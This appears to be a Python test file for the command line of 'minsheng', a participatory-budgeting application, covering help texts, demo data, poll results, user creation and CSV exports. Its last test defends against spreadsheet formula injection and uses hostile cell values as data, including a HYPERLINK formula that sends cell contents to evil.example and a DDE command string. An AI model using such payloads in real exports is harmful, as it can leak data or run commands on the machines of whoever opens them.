"""The minsheng command line: help texts, demo data, poll result and the CSV exports."""
import csv
import io
import json
import os

from client import Session
from harness import (Server, admin_session, build_world, cast, check, cli, close_poll, create_congress, dep_session, expect,
                     make_cycle,
                     login_session)

COMMANDS = ["init", "serve", "demo", "user", "poll", "export", "tally", "copy", "api-schema", "audit"]


def test_help(ctx):
    """minsheng --help names every command and each command's --help says what it does"""
    out = cli(["--help"]).stdout.decode()
    for c in COMMANDS:
        check(("  " + c) in out, "minsheng --help does not list %r" % c, out)
    for c in COMMANDS:
        p = cli([c, "--help"])
        text = p.stdout.decode()
        check(text.startswith("Usage: minsheng " + c) and len(text.splitlines()) >= 2,
              "minsheng %s --help does not explain the command" % c, text)
    p = cli(["frobnicate"], expect_ok=False)
    check(p.returncode == 2 and b"unknown command" in p.stderr, "an unknown command does not exit 2 with a message",
          p.returncode, p.stderr)


def test_serve_settings(ctx):
    """serve refuses a setting it cannot read, naming it and its range, rather than serving with a default"""
    db = ctx.new_db("settings")
    for name, value in (("MINSHENG_THREADS", "many"), ("MINSHENG_THREADS", "0"), ("MINSHENG_THREADS", "257"),
                        ("MINSHENG_HEADER_TIMEOUT", "-1")):
        p = cli(["serve", "--db", db, "--listen", "127.0.0.1:0"], expect_ok=False, env={name: value}, timeout=30)
        err = p.stderr.decode("utf-8", "replace")
        check(p.returncode != 0 and name in err and value in err, "serve with %s=%s" % (name, value),
              p.returncode, err)
    # the options come first: --help needs no setting, and --threads stands in for MINSHENG_THREADS
    p = cli(["serve", "--help"], expect_ok=False, env={"MINSHENG_THREADS": "many"}, timeout=30)
    check(p.returncode == 0 and b"--threads N" in p.stdout + p.stderr, "serve --help with a bad MINSHENG_THREADS",
          p.returncode, p.stderr)
    srv = Server(db, ctx.dir, ctx.label, env={"MINSHENG_THREADS": "many"}, args=["--threads", "2"])
    ctx.servers.append(srv)
    srv.start()
    expect(Session(srv.base).get("/api/v1/congresses"), 200, what="served with --threads 2 and a bad MINSHENG_THREADS")


def test_lazy_libraries(ctx):
    """--help and tally do not load the libraries only other commands use (src/core/lazy.h): libxlsxwriter (with
    minizip and OpenSSL's libcrypto) and libmagic; the server loads them at its start. (The sanitizer builds the
    tests run link libmicrohttpd, libpq, cairo and libvips at the start anyway: meson.build says why.)"""
    path = os.path.join(ctx.dir, "lazy.pb")
    with open(path, "w", encoding="utf-8") as f:
        f.write("META\nkey;value\nnum_projects;2\nnum_votes;2\nbudget;10\nvote_type;approval\n"
                "PROJECTS\nproject_id;cost\n1;5\n2;6\nVOTES\nvoter_id;vote\n1;1\n2;1,2\n")
    lazy = ("libxlsxwriter", "libminizip", "libmagic")
    for args in (["--help"], ["tally", "--rule", "greedy_cost", path]):
        p = cli(args, expect_ok=False, env={"LD_DEBUG": "libs"})
        err = p.stderr.decode("utf-8", "replace")
        loaded = [l for l in lazy if "find library=%s" % l in err]
        check(p.returncode == 0 and "find library=libtommath" in err and not loaded,
              "minsheng %s loads none of %s" % (args[0], ", ".join(lazy)), p.returncode, loaded)
    # the server at its start, and a workbook from it
    db = ctx.new_db("lazy")
    srv = Server(db, ctx.dir, ctx.label, env={"LD_DEBUG": "libs", "LD_DEBUG_OUTPUT": os.path.join(ctx.dir, "ld")})
    ctx.servers.append(srv)
    srv.start()
    expect(Session(srv.base).get("/api/v1/congresses"), 200, what="the server answers")
    logs = "".join(open(os.path.join(ctx.dir, n), encoding="utf-8", errors="replace").read()
                   for n in os.listdir(ctx.dir) if n.startswith("ld."))
    check(all("find library=%s" % l in logs for l in ("libxlsxwriter", "libmagic", "libmicrohttpd")),
          "serve loads the workbooks', the uploads' and the HTTP libraries at its start", logs[-2000:])


def test_demo(ctx):
    """minsheng demo creates the bilingual demo once, prints the logins, and the logins work"""
    db = ctx.new_db("demo")
    first = cli(["demo", "--db", db]).stdout.decode()
    check("demo data created" in first and "clerk-demo" in first and "deputy-demo" in first and "clerk_jb" in first,
          "demo did not report the data and the logins", first)
    again = cli(["demo", "--db", db]).stdout.decode()
    check("already has data" in again and "clerk-demo" in again, "a second demo run is not a no-op", again)
    srv = Server(db, ctx.dir, ctx.label)
    ctx.servers.append(srv)
    srv.start()
    pub = Session(srv.base)
    cong = expect(pub.get("/api/v1/congresses"), 200, what="congresses")
    levels = [c["level"] for c in cong["items"]]
    check(cong["total"] == 9 and [levels.count(l) for l in ("city", "district", "town", "street")] == [1, 3, 4, 1],
          "the demo should have a city, 3 district congresses, 4 town congresses and a street's council", cong)
    city = cong["items"][0]
    check(city["deputies"] == 60 and city["name_en"], "the city congress should have 60 deputies and an English name",
          city)
    units = expect(pub.get("/api/v1/congresses/%d/units" % city["id"]), 200, what="units")
    check(units["total"] == 10 and all(u["name"] and u["name_en"] for u in units["items"]),
          "the demo should have 10 bilingual units", units)
    cycles = expect(pub.get("/api/v1/congresses/%d/cycles" % city["id"]), 200, what="cycles")
    cyc = cycles["items"][0]
    check(cyc["phase"] == "vote" and cyc["candidates"] == 12, "the demo cycle should vote on 12 candidates", cyc)
    polls = expect(pub.get("/api/v1/cycles/%d/polls" % cyc["id"]), 200, what="polls")
    poll = expect(pub.get("/api/v1/polls/%d" % polls["items"][0]["id"]), 200, what="poll")
    check(poll["slots"] == 10 and len(poll["candidates"]) == 12 and poll["status"] == "draft"
          and poll["deputies_all"] == 60, "the demo poll should offer 12 candidates for 10 places", poll)
    check(all(c["title"] and c["title_en"] and c["cost"] > 0 and c["unit_name"] for c in poll["candidates"]),
          "every demo candidate needs both titles, a cost and a unit", poll["candidates"])
    by_year = {c["year"]: c for c in cycles["items"]}
    check(sorted(by_year) == [2025, 2026, 2027] and by_year[2025]["phase"] == "evaluate"
          and by_year[2026]["phase"] == "implement", "the demo's three rounds", cycles)
    projects = expect(pub.get("/api/v1/cycles/%d/projects" % by_year[2026]["id"]), 200, what="projects")["items"]
    lights = sorted(p["light"] for p in projects)
    check(len(projects) == 10 and lights.count("red") == 1 and lights.count("yellow") == 1
          and lights.count("blue") == 1, "the 2026 round under delivery: one red, one yellow, one accepted", lights)
    done = [p for p in projects if p["light"] == "blue"][0]
    check(done["state"] == "finished" and done["accepted_on"] and done["acceptance"], "accepted", done)
    tasks = expect(login_session(srv, "unit01", "unit-demo").get("/api/v1/congresses/%d/tasks" % city["id"]), 200,
                   what="unit01's tasks")["items"]
    check(len(tasks) == 1 and tasks[0]["project_id"] == [p for p in projects if p["light"] == "red"][0]["id"],
          "the red project's task waits for unit01", tasks)
    evs = expect(pub.get("/api/v1/cycles/%d/evaluations" % by_year[2025]["id"]), 200, what="evaluations")["items"]
    check(len(evs) == 1 and evs[0]["status"] == "closed" and evs[0]["electorate"] == "committee",
          "the 2025 round's evaluation by the committee, closed", evs)
    res = expect(pub.get("/api/v1/evaluations/%d/result" % evs[0]["id"]), 200, what="the evaluation's result")
    check(res["deputies_all"] == 33 and res["deputies_present"] == 31 and res["ballots_returned"] == 31
          and res["verdicts"] == {"satisfied": 3, "basic": 1, "dissatisfied": 1}, "three satisfied, one basically, one "
          "dissatisfied", res)
    cqs = expect(pub.get("/api/v1/congresses/%d/consequences" % city["id"]), 200, what="consequences")
    rules = expect(pub.get("/api/v1/congresses/%d/consequence-rules" % city["id"]), 200, what="rules")
    check(cqs["total"] == 0 and len(rules["rules"]) == 5 and "15 个工作日" in rules["words"]["zh"],
          "the rules adopted after the 2025 evaluation, none applied yet", cqs, rules)
    hol = expect(pub.get("/api/v1/congresses/%d/holidays?year=2026" % city["id"]), 200, what="holidays")
    days = {h["day"]: h["kind"] for h in (hol["days"] if isinstance(hol, dict) else hol)}
    check(days.get("2026-10-01") == "off" and days.get("2026-10-10") == "on" and days.get("2026-02-14") == "on"
          and len([k for k in days.values() if k == "off"]) == 19, "the city's 2026 holiday calendar", hol)
    # every closed vote and evaluation of the demo recounts from its public bulletin to its published result
    bulletins = ["/api/v1/polls/%d/bulletin" % p["id"] for y in (2025, 2026)
                 for p in expect(pub.get("/api/v1/cycles/%d/polls" % by_year[y]["id"]), 200)["items"]
                 if p["status"] == "closed" and p["ballot_form"] != "rate"]
    bulletins.append("/api/v1/evaluations/%d/bulletin" % evs[0]["id"])
    check(len(bulletins) == 3, "the demo's closed polls", bulletins)
    for url in bulletins:
        path = os.path.join(ctx.dir, "demo-bulletin.json")
        with open(path, "w") as f:
            json.dump(expect(pub.get(url), 200, what=url), f, ensure_ascii=False)
        out = cli(["verify", path], what="verify " + url).stdout.decode()
        check("matches" in out, "the demo's bulletin %s recounts to its result" % url, out)
    audit = cli(["audit", "verify", "--db", db], what="audit verify of the demo").stdout.decode()
    # the city's three polls, the six rounds below it (two districts, four towns) and the city's two reviews
    check("11 polls match" in audit and "1 reviews match" in audit, "the demo's audit log, results and ballots verify",
          audit)
    for login, pw, role in [("admin", "admin-demo", "admin"), ("clerk", "clerk-demo", "clerk"),
                            ("deputy01", "deputy-demo", "deputy"), ("deputy60", "deputy-demo", "deputy"),
                            ("unit01", "unit-demo", "unit"), ("clerk_jb", "clerk-demo", "clerk"),
                            ("clerk_cg", "clerk-demo", "clerk"), ("clerk_dm", "clerk-demo", "clerk"),
                            ("jbdeputy20", "deputy-demo", "deputy"), ("sqdeputy12", "deputy-demo", "deputy")]:
        s = login_session(srv, login, pw)
        me = expect(s.get("/api/v1/me"), 200, what="me as %s" % login)
        check(role in me["user"]["roles"], "%s should have role %s" % (login, role), me)


def _closed_world(ctx):
    w = build_world(ctx, n_deputies=5, costs=(100, 200, 300, 400), poll={"slots": 2})
    votes = [[w.cands[0], w.cands[1]], [w.cands[0], w.cands[1]], [w.cands[0], w.cands[2]], [w.cands[0]], []]
    for i, v in enumerate(votes):
        cast(dep_session(w, i), w.poll, v)
    return w, close_poll(w.clerk, w.poll)


def test_poll_result_and_exports(ctx):
    """poll result (text and JSON) and the CSV exports agree with the published result"""
    w, res = _closed_world(ctx)
    db = w.srv.db
    js = json.loads(cli(["poll", "result", str(w.poll), "--db", db, "--json"]).stdout)
    check(js == res, "poll result --json differs from the API's result", js, res)
    text = cli(["poll", "result", str(w.poll), "--db", db]).stdout.decode()
    check(res["rule_text"]["zh"] in text and res["rule_text"]["en"] in text and "selected" in text,
          "poll result does not print the rule in words and the outcomes", text)
    missing = cli(["poll", "result", "999", "--db", db], expect_ok=False)
    check(missing.returncode == 1 and b"poll 999 not found" in missing.stderr, "a missing poll is not reported",
          missing.returncode, missing.stderr)

    rows = list(csv.DictReader(io.StringIO(cli(["export", "result", "--poll", str(w.poll), "--db", db])
                                           .stdout.decode())))
    got = {int(r["candidate_id"]): (int(r["approvals"]), r["status"]) for r in rows}
    want = {c["candidate_id"]: (c["approvals"], c["status"]) for c in res["candidates"]}
    check(got == want, "export result differs from the result", got, want)

    out = os.path.join(ctx.dir, "cands.csv")
    cli(["export", "candidates", "--cycle", str(w.cycle), "--db", db, "--out", out])
    with open(out, encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    check(sorted(int(r["id"]) for r in rows) == sorted(w.cands) and {int(r["cost"]) for r in rows} == {100, 200, 300, 400},
          "export candidates does not list the cycle's candidates with their costs", rows)

    rows = list(csv.DictReader(io.StringIO(cli(["export", "audit", "--db", db]).stdout.decode())))
    actions = [r["action"] for r in rows]
    check("poll.close" in actions and "poll.open" in actions and actions.count("ballot.cast") == 5,
          "export audit lacks the poll's state changes", actions)
    check(all(r["action"] != "ballot.cast" or "choices" not in r["detail"] for r in rows),
          "the audit export shows choices", rows)
    bad = cli(["export", "result", "--db", db], expect_ok=False)
    check(bad.returncode == 2, "export result without --poll should exit 2", bad.returncode)


# (what, CLI arguments after `user add`, the same account as a POST /users body, the code both refuse it with);
# POST /users takes no password (the account answers an activation code): a short password is refused by
# `user add` and POST /activate alike (test_activation.py)
_REFUSED = [
    ("a login with a space and markup", ["--login", "a b<script>", "--name", "甲", "--role", "deputy", "--congress", "{c}"],
     {"login": "a b<script>", "name": "甲", "roles": ["deputy"], "congress_id": "{c}"}, "invalid_login"),
    ("an empty name", ["--login", "noname", "--name", "", "--role", "deputy", "--congress", "{c}"],
     {"login": "noname", "name": "", "roles": ["deputy"], "congress_id": "{c}"}, "invalid_value"),
    ("a clerk of no congress", ["--login", "lostclerk", "--name", "乙", "--role", "clerk"],
     {"login": "lostclerk", "name": "乙", "roles": ["clerk"]}, "congress_required"),
    ("a deputy of a congress that does not exist", ["--login", "ghost", "--name", "丙", "--role", "deputy",
                                                    "--congress", "999"],
     {"login": "ghost", "name": "丙", "roles": ["deputy"], "congress_id": 999}, "unknown_congress"),
    ("a unit officer without a unit", ["--login", "nounit", "--name", "丁", "--role", "unit", "--congress", "{c}"],
     {"login": "nounit", "name": "丁", "roles": ["unit"], "congress_id": "{c}"}, "unit_required"),
    ("a login already taken", ["--login", "admin", "--name", "己", "--role", "admin"],
     {"login": "admin", "name": "己", "roles": ["admin"]}, "login_taken"),
]


def test_user_add_refuses_what_the_api_refuses(ctx):
    """minsheng user add refuses what POST /users refuses, with the same message in each language, and stores nothing"""
    srv = ctx.new_server()
    admin = admin_session(srv)
    cid = create_congress(admin)
    for what, args, body, code in _REFUSED:
        args = [a.replace("{c}", str(cid)) for a in args]
        if "--password" not in args:
            args += ["--password", "a-good-password"]
        body = {k: (cid if v == "{c}" else v) for k, v in body.items()}
        api = expect(admin.post("/api/v1/users", body), (409, 422), code, what="API: " + what)["error"]
        for lang, key in (("C", "message"), ("zh_CN.UTF-8", "message_zh")):
            p = cli(["user", "add", "--db", srv.db] + args, expect_ok=False, env={"LANG": lang, "LC_ALL": ""})
            said = p.stderr.decode("utf-8", "replace").strip()
            check(p.returncode == 1 and said == "minsheng: " + api[key],
                  "CLI (%s) %s: it said %r (exit %d), the API %r" % (lang, what, said, p.returncode, api[key]))
    logins = [u for u in ("nounit", "ghost", "lostclerk", "shortpw", "noname")
              if Session(srv.base).login(u, "a-good-password").status == 200]
    check(not logins, "refused accounts can log in", logins)


def test_user_add_goes_through_the_rules(ctx):
    """minsheng user add writes the account and its audit entry as the API does"""
    srv = ctx.new_server()
    admin = admin_session(srv)
    cid = create_congress(admin)
    p = cli(["user", "add", "--db", srv.db, "--login", "cli.deputy", "--password", "cli-deputy-pw", "--name", "命令行代表",
             "--role", "deputy", "--congress", str(cid)])
    check(b"created with id" in p.stdout, "user add did not report the new id", p.stdout)
    me = expect(login_session(srv, "cli.deputy", "cli-deputy-pw").get("/api/v1/me"), 200, what="me")
    check(me["user"]["roles"] == ["deputy"] and me["user"]["congress_id"] == cid, "the account is wrong", me)
    entries = expect(admin.get("/api/v1/audit?q=user.create"), 200, what="audit")["items"]
    check(any(e["object"] == "user/%d" % me["user"]["id"] and e["user_id"] is None for e in entries),
          "no audit entry by the system for the CLI's account", entries)


def test_export_neutralises_formulas(ctx):
    """issue 11 defect 5: a text cell that begins with = + - @ tab or CR is exported with a single quote in front"""
    srv = ctx.new_server()
    admin = admin_session(srv)
    congress = create_congress(admin)
    cycle, _ = make_cycle(admin, congress, [], to_phase="collect")
    unit = expect(admin.post("/api/v1/congresses/%d/units" % congress, {"name": "@单位", "name_en": "-unit"}), 201,
                  what="create unit")["id"]
    hostile = {"title": '=HYPERLINK("http://evil.example/?"&A1,"点击")', "title_en": "+cmd|' /C calc'!A0",
               "category": "-2+3", "location": "@SUM(A1:A9)", "description": "\tsee", "description_en": "\rx"}
    body = dict(hostile, cost=100, unit_id=unit)
    expect(admin.post("/api/v1/cycles/%d/candidates" % cycle, body), 201, what="create a candidate with formula text")
    expect(admin.post("/api/v1/cycles/%d/candidates" % cycle,
                      {"title": "普通项目", "title_en": "plain", "description": "说明", "category": "住房", "cost": 5,
                       "unit_id": unit, "location": "江北区"}), 201, what="create a plain candidate")
    text = cli(["export", "candidates", "--cycle", str(cycle), "--db", srv.db]).stdout.decode()
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    check(len(rows) == 2, "export candidates should list two rows", rows)
    bad = [r for r in rows if r["title"] != "普通项目"][0]
    plain = [r for r in rows if r["title"] == "普通项目"][0]
    stored = {"title": bad["title"], "title_en": bad["title_en"], "category": bad["category"],
              "location": bad["location"], "description": bad["description"], "unit_name": bad["unit_name"]}
    got = {k: v for k, v in stored.items() if v[:1] in ("=", "+", "-", "@", "\t", "\r")}
    check(not got, "cells that begin with a formula character are exported as they are", got, text)
    for k, v in hostile.items():
        if k in stored:
            check(stored[k] in ("'" + v, "'" + v.strip()), "cell %s not neutralised with a quote" % k, stored[k], v)
    check(bad["unit_name"] == "'@单位", "the unit's name not neutralised", bad["unit_name"])
    check(plain["category"] == "住房" and plain["cost"] == "5" and bad["cost"] == "100",
          "plain cells and numbers must be exported unchanged", plain, bad)
